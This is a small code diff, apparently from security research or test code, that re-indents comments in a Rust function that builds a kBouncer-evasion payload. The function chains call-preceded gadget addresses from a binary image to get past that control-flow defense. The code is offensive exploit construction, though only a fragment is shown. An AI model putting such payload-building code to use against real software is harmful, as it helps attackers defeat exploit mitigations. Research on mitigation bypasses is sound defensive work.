@@ -152,8 +152,8 @@ pub fn kbouncer_evasion(image: &Image, n_links: usize) -> Vec<u8> {
     assert!(n_links <= 24, "payload budget allows at most 24 links");
     let cp = image.symbol("cp_wrapper").expect("libc cp_wrapper");
     let rs = cp + 8; // call-preceded: insn before it is `call cp_noop`
-    // Return site inside handler 2 (after its `call gettimeofday`): the
-    // fall-through writes one byte and returns.
+                     // Return site inside handler 2 (after its `call gettimeofday`): the
+                     // fall-through writes one byte and returns.
     let table = image.symbol("handlers").expect("dispatch table symbol");
     let h2 = u64::from_le_bytes(
         image.read_bytes(table + 16, 8).expect("table entry").try_into().expect("8 bytes"),
